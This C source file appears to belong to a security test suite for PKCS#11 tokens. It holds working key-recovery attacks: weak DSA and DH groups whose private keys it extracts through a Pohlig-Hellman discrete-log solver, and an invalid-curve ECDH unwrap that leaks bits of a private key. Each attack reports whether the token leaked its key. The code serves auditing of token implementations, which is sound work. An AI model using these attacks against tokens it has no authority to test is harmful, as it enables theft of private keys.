/* groups.c - groups and points of the attacker's choice, in which the token's private key is told */
#include <openssl/bn.h>
#include <string.h>

#include "steps.h"

/* q of 256 bits made of small primes, p = 2 k q + 1 a prime of 2048 bits, g of order q. */
struct weak_group {
	BIGNUM *p, *q, *g;
	BN_ULONG primes[64];
	size_t n;
	BN_CTX *ctx;
};

static bool
small_prime(BN_ULONG r)
{
	for (BN_ULONG i = 2; i * i <= r; i++)
		if (r % i == 0)
			return false;
	return true;
}

static void
make_weak_group(struct weak_group *w)
{
	BIGNUM *k = BN_new(), *h = BN_new();
	BN_ULONG r = 257, least;

	w->ctx = BN_CTX_new();
	w->p = BN_new();
	w->q = BN_new();
	w->g = BN_new();
	w->n = 0;
	BN_one(w->q);
	for (; BN_num_bits(w->q) < 236; r++)
		if (small_prime(r)) {
			BN_mul_word(w->q, r);
			w->primes[w->n++] = r;
		}
	least = 1UL << (256 - BN_num_bits(w->q));
	for (r = least > r ? least : r; !small_prime(r); r++)
		;
	BN_mul_word(w->q, r);
	w->primes[w->n++] = r;
	do {
		BN_rand(k, 2048 - 1 - BN_num_bits(w->q), BN_RAND_TOP_TWO, BN_RAND_BOTTOM_ANY);
		BN_mul(w->p, k, w->q, w->ctx);
		BN_lshift1(w->p, w->p);
		BN_add_word(w->p, 1);
	} while (BN_num_bits(w->p) != 2048 || BN_check_prime(w->p, w->ctx, NULL) != 1);
	BN_lshift1(k, k); /* (p - 1) / q */
	BN_set_word(h, 3);
	BN_mod_exp(w->g, h, k, w->p, w->ctx);
	BN_free(k);
	BN_free(h);
}

/* Pohlig and Hellman 1978: the logarithm modulo each of the small primes, put together. */
static bool
logarithm(const struct weak_group *w, const BIGNUM *y, BIGNUM *x)
{
	BIGNUM *e = BN_new(), *base = BN_new(), *want = BN_new(), *have = BN_new(), *r = BN_new();
	bool found = true;

	BN_zero(x);
	for (size_t i = 0; found && i < w->n; i++) {
		BN_ULONG at = 0;

		BN_copy(e, w->q);
		BN_div_word(e, w->primes[i]);
		BN_mod_exp(base, w->g, e, w->p, w->ctx);
		BN_mod_exp(want, y, e, w->p, w->ctx);
		for (BN_one(have); at < w->primes[i] && BN_cmp(have, want) != 0; at++)
			BN_mod_mul(have, have, base, w->p, w->ctx);
		found = at < w->primes[i];
		BN_set_word(r, w->primes[i]);
		BN_mod_inverse(have, e, r, w->ctx); /* the remainders, put together: e * e^-1 * at */
		BN_mod_mul(have, have, e, w->q, w->ctx);
		BN_mul_word(have, at);
		BN_mod_add(x, x, have, w->q, w->ctx);
	}
	BN_mod_exp(have, w->g, x, w->p, w->ctx);
	found = found && BN_cmp(have, y) == 0;
	BN_free(e);
	BN_free(base);
	BN_free(want);
	BN_free(have);
	BN_free(r);
	return found;
}

static void
put_number(struct templ *t, CK_ATTRIBUTE_TYPE type, const BIGNUM *n, CK_BYTE room[256])
{
	templ_bytes(t, type, room, (CK_ULONG)BN_bn2bin(n, room));
}

/* The token makes the key, but in a group where its public value tells it. */
static void
weak_group(CK_MECHANISM_TYPE gen, CK_KEY_TYPE type, CK_ULONG private_bits)
{
	static CK_BYTE numbers[3][256];
	struct weak_group w;
	CK_OBJECT_HANDLE pub, priv;
	struct templ a, b;
	struct blob y;
	BIGNUM *x = BN_new();

	client_login();
	make_weak_group(&w);
	templ_begin(&a, CKO_PUBLIC_KEY, type, "bare");
	put_number(&a, CKA_PRIME, w.p, numbers[0]);
	if (type == CKK_DSA)
		put_number(&a, CKA_SUBPRIME, w.q, numbers[1]);
	put_number(&a, CKA_BASE, w.g, numbers[2]);
	templ_begin(&b, CKO_PRIVATE_KEY, type, "bare private sensitive");
	if (private_bits != 0)
		templ_number(&b, CKA_VALUE_BITS, private_bits);
	if (REFUSED(pair_generate(gen, &a, &b, &pub, &priv)) || REFUSED(key_read(pub, CKA_VALUE, &y)))
		return;
	if (logarithm(&w, BN_bin2bn(y.data, (int)y.len, NULL), x))
		attack_leaked("a private key of %d bits is the logarithm of its public value", BN_num_bits(x));
	attack_safe("no logarithm was found");
}

static void
dsa_weak_group(void)
{
	weak_group(CKM_DSA_KEY_PAIR_GEN, CKK_DSA, 0);
}

static void
dh_weak_group(void)
{
	weak_group(CKM_DH_PKCS_KEY_PAIR_GEN, CKK_DH, 200);
}

/* A blob whose point is of order 2 on another curve (y = 0): it opens if the private key is odd (Antipa et al. 2003). */
static void
unwrap_off_curve(void)
{
	CK_ECDH_AES_KEY_WRAP_PARAMS p = {.ulAESKeyBits = 256, .kdf = CKD_NULL};
	CK_MECHANISM m = {CKM_ECDH_AES_KEY_WRAP, &p, sizeof(p)};
	CK_OBJECT_HANDLE pub, priv, key;
	CK_BYTE x[32];
	struct blob blob, wrapped;

	client_login();
	for (int i = 0; i < 8; i++) {
		pair_p256("wrap", "sensitive unwrap", &pub, &priv);
		own_random(x, sizeof(x));
		x[0] = 0;
		NEED(own_key_wrap_pad(x, 32, x, 16, &wrapped) ? CKR_OK : CKR_GENERAL_ERROR);
		blob.data[0] = 4;
		memcpy(blob.data + 1, x, 32);
		memset(blob.data + 33, 0, 32);
		memcpy(blob.data + 65, wrapped.data, wrapped.len);
		blob.len = 65 + wrapped.len;
		if (!REFUSED(key_unwrap(&m, priv, &blob, CKO_SECRET_KEY, CKK_AES, "sensitive encrypt", &key)))
			attack_weak("a bit of the private key is told by a point off its curve");
	}
}

const struct attack attacks_groups[] = {
	{"dsa-weak-group", "Pohlig, Hellman 1978", dsa_weak_group},
	{"dh-weak-group", "Pohlig, Hellman 1978", dh_weak_group},
	{"unwrap-off-curve", "Antipa et al. 2003", unwrap_off_curve},
	{0},
};
